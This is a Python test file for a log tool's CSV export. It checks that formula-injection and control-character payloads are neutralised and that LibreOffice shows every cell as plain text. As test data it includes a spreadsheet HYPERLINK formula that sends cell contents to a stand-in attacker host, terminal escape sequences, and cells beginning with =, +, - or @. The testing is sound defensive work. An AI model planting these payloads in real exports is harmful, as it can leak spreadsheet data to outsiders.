# Scenario (issue 15, defect 4): a CSV export opened in a spreadsheet runs nothing and shows
# every cell's text literally. Messages whose body starts with every ASCII character (and a few
# Unicode ones: NEL, CSI, NBSP, BOM, full-width =, line separator) followed by the issue's
# `=HYPERLINK("http://evil.example/?x="&A1,"click me")`, bodies like `+1`, `-5`, `@SUM(1)`,
# `\t=1`, `\r=1`, ESC sequences, NUL, CR/LF inside, and header fields (host, program, pid,
# msgid) starting with `=`, `+`, `-`, `@`, are stored with `logbox ingest --framing octet` and
# exported through real logbox-searchd and real gunicorn, by the API (GET .../export) and by the
# web UI (GET /export). Each CSV cell is what API.md §5 says: a leading `'` when the text starts
# with = + - @ tab or CR, then each control character written as the NDJSON export writes it
# (\u001b, \n); the web UI's CSV equals the API's. LibreOffice (soffice --headless
# --infilter=CSV:44,34,76,1 --convert-to fods) opens it: no cell holds a formula or a link, and
# each text cell shows exactly its CSV text. A hypothesis property checks the same rule on
# random hostile cells with Python's csv reader: one record of 12 fields per message, no field
# that a spreadsheet would start a formula with, no control character, the text recoverable.
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st
from lbtest.cli import Logbox
from lbtest.proxied import over_searchd
from lbtest.rpc import RpcServer
from lbtest.webui import WebuiServer
from logbox_core.export import csv_rows

pytestmark = pytest.mark.slow

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
UNICODE_LEADS = "\u0085\u009b\u00a0\ufeff\uff1d\u2028"
CSV_COLUMNS = (
    "id,received,timestamp,host,peer,program,pid,msgid,facility,severity,flags,sd,message".split(
        ","
    )
)
TEXT_COLUMNS = ("host", "peer", "program", "pid", "msgid", "sd", "message")
LEADS = ("=", "+", "-", "@", "\t", "\r")
SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"

NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def bodies() -> list[str]:
    """The hostile message bodies."""
    out = [chr(c) + LINK for c in range(128)] + [ch + LINK for ch in UNICODE_LEADS]
    out += [LINK, "+1", "-5", "@SUM(1)", "\t=1+1", "\r=1+1", "-", "+", "@", "="]
    out += ["ESC \x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07"]
    out += ["nul\x00inside", "cr\rlf\nboth\r\nend", "\x00=1+1", "DEL\x7f C1\x9b"]
    return out


def frames() -> bytes:
    """The messages, octet-counted (RFC 6587): the bodies under a plain RFC 5424 header, then
    hostile RFC 5424 and RFC 3164 header fields."""
    msgs = [b"<13>1 2026-11-20T00:00:00Z h app - - - " + b.encode() for b in bodies()]
    for lead in "=+-@":
        msgs.append(
            f"<13>1 2026-11-20T00:00:00Z {lead}h {lead}app {lead}1 {lead}id - {lead}x".encode()
        )
        msgs.append(f"<13>Nov 20 00:00:00 {lead}host {lead}prog[{lead}2]: x".encode())
    return b"".join(b"%d %s" % (len(m), m) for m in msgs)


def expected_cell(s: str) -> str:
    """API.md §5's rule for a CSV text cell, written out plainly: a "'" before a leading = + -
    @ tab or CR, then every C0, DEL and C1 control character as JSON writes it."""
    if s[:1] in LEADS:
        s = "'" + s
    return "".join(
        json.dumps(ch)[1:-1] if ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F else ch for ch in s
    )


def expected_row(m: dict[str, Any]) -> list[str]:
    def t(v: Any) -> str:
        return expected_cell("" if v is None else str(v))

    def n(v: Any) -> str:
        return "" if v is None else str(v)

    return [
        n(m["id"]), t(m["received"]), t(m["timestamp"]), t(m["host"]), t(m["peer"]),
        t(m["program"]), t(m["pid"]), t(m["msgid"]), n(m["facility"]), n(m["severity"]),
        t("|".join(m["flags"])), t(m["sd"]), t(m["message"]),
    ]  # fmt: skip


@dataclass
class Stack:
    rpc: RpcServer
    web: WebuiServer
    api: requests.Session
    params: dict[str, str]
    root: Path


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, top: Path, logbox_bin: Path) -> Iterator[Stack]:
    root = tmp_path_factory.mktemp("csvinject")
    data = root / "data"
    data.mkdir()
    lb = Logbox(logbox_bin, data, "main")
    lb.check(lb.run("ingest", "--framing", "octet", "-", input=frames()))
    now = int(time.time())
    params = {"q": "*", "from": str(now - 3600), "to": str(now + 3600), "order": "oldest"}
    with over_searchd(top, root, data) as (rpc, web):
        yield Stack(rpc, web, rpc.session(rpc.login()), params, root)


def api_export(st: Stack, fmt: str) -> requests.Response:
    r = st.api.get(
        f"{st.rpc.base}/logspaces/main/export", params={**st.params, "format": fmt}, timeout=120
    )
    assert r.status_code == 200, r.text[:500]
    return r


def csv_records(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8", "surrogateescape"), newline="")))


# ---------------------------------------------------------------- LibreOffice


def cell_text(cell: ET.Element) -> str:
    """The text a spreadsheet shows in a fods cell (text:s spaces, tabs, line breaks, one
    paragraph a line)."""

    def walk(e: ET.Element) -> str:
        out = e.text or ""
        for child in e:
            tag = child.tag.rsplit("}", 1)[-1]
            if tag == "s":
                out += " " * int(child.get(f"{{{NS['text']}}}c", "1"))
            elif tag == "tab":
                out += "\t"
            elif tag == "line-break":
                out += "\n"
            else:
                out += walk(child)
            out += child.tail or ""
        return out

    return "\n".join(walk(p) for p in cell.findall("text:p", NS))


def open_in_calc(csv_path: Path, profile: Path) -> tuple[str, list[list[ET.Element]]]:
    """LibreOffice Calc's reading of csv_path (comma, double quote, UTF-8, from line 1),
    saved as flat ODF: (the XML text, the rows of cells with repeated cells spread out)."""
    assert Path(SOFFICE).exists(), (
        "soffice is missing: apt-get install --no-install-recommends libreoffice-calc-nogui "
        "(appliance/debian-packages.txt)"
    )
    out = csv_path.parent / "calc"
    p = subprocess.run(
        [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://{profile}",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(out),
         str(csv_path)],
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(profile)},
    )  # fmt: skip
    fods = out / (csv_path.stem + ".fods")
    assert p.returncode == 0 and fods.exists(), (p.returncode, p.stdout, p.stderr)
    xml = fods.read_text()
    rows = []
    for row in ET.fromstring(xml).iter(f"{{{NS['table']}}}table-row"):
        cells: list[ET.Element] = []
        for c in row:
            n = int(c.get(f"{{{NS['table']}}}number-columns-repeated", "1"))
            cells += [c] * min(n, len(CSV_COLUMNS))
        rows.append(cells)
    return xml, rows


# ---------------------------------------------------------------- the tests


def test_csv_cells_are_neutralised(stack: Stack) -> None:
    st = stack
    msgs = [json.loads(ln) for ln in api_export(st, "ndjson").content.splitlines()]
    # the store kept every hostile byte: the test is not vacuous
    assert [m["message"] for m in msgs[: len(bodies())]] == bodies()
    assert {m["message"][:1] for m in msgs} >= {chr(c) for c in range(128)}
    assert any(m["host"].startswith("=") for m in msgs)
    assert any(m["pid"].startswith("-") for m in msgs)
    r = api_export(st, "csv")
    assert r.headers["Content-Type"].startswith("text/csv")
    body = r.content
    assert b"\x1b" not in body and b"\x00" not in body
    recs = csv_records(body)
    assert recs[0] == CSV_COLUMNS
    assert recs[1:] == [expected_row(m) for m in msgs]
    # one physical line a record: no line break is left inside a cell
    assert body.count(b"\r\n") == len(recs) == len(body.splitlines())
    for rec in recs[1:]:
        for col, cell in zip(CSV_COLUMNS, rec, strict=True):
            assert not cell.startswith(LEADS), (col, cell)
    # the web UI's export is the same file
    s = st.web.login_session()
    w = s.get(st.web.url + "/export", params={**st.params, "format": "csv"}, timeout=120)
    assert w.status_code == 200 and w.content == body, w.text[:300]


def test_libreoffice_shows_text_literally(stack: Stack) -> None:
    st = stack
    body = api_export(st, "csv").content
    recs = csv_records(body)
    path = st.root / "export.csv"
    path.write_bytes(body)
    t = time.monotonic()
    xml, rows = open_in_calc(path, st.root / "lo-profile")
    print(f"soffice --convert-to fods of {len(recs)} rows: {time.monotonic() - t:.1f} s")
    # nothing is a formula or a link, anywhere
    assert "table:formula" not in xml
    assert not list(ET.fromstring(xml).iter(f"{{{NS['text']}}}a"))
    assert len(rows) >= len(recs)
    for rec, cells in zip(recs, rows, strict=False):
        for col, want, cell in zip(CSV_COLUMNS, rec, cells, strict=False):
            if col in TEXT_COLUMNS or rec is recs[0]:
                assert cell_text(cell) == want, (rec[0], col, want, ET.tostring(cell)[:300])
                assert cell.get(f"{{{NS['office']}}}value-type") in (None, "string"), (col, want)


# ---------------------------------------------------------------- the rule, as a property

HOSTILE = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@\t\r\n\x00\x1b\x7f\x85\x9b\"',;|\\ '"),
        st.characters(min_codepoint=0, max_codepoint=0x2FF),
        st.characters(min_codepoint=0xDC80, max_codepoint=0xDCFF),  # bytes that are not UTF-8
    ),
    max_size=40,
).map(lambda s: s.encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape"))
# (as searchd writes text: escaped bytes that happen to form UTF-8 come as the character)


@settings(max_examples=200, deadline=None)
@given(
    host=HOSTILE, peer=HOSTILE, program=HOSTILE, pid=HOSTILE, msgid=HOSTILE, sd=HOSTILE,
    message=HOSTILE,
)  # fmt: skip
def test_rule_on_random_hostile_cells(
    host: str, peer: str, program: str, pid: str, msgid: str, sd: str, message: str
) -> None:
    m = {
        "id": 7, "received": "2026-11-20T00:00:00.000000Z", "timestamp": None, "host": host,
        "peer": peer, "program": program, "pid": pid, "msgid": msgid, "facility": 1, "severity": None,
        "flags": ["rfc5424"], "sd": sd, "message": message,
    }  # fmt: skip
    out = csv_rows([m])
    assert out.endswith(b"\r\n") and out.count(b"\n") == 1, out
    (rec,) = csv_records(out)
    assert rec == expected_row(m)
    for col in TEXT_COLUMNS:
        cell, raw = rec[CSV_COLUMNS.index(col)], m[col]
        assert not cell.startswith(LEADS)
        assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in cell), cell
        # the text comes back (when it held no backslash of its own): drop the guard's "'"
        # and read the escapes as JSON does
        text = cell[1:] if raw[:1] in LEADS else cell
        if "\\" not in raw:
            assert json.loads('"' + text.replace('"', '\\"') + '"') == raw
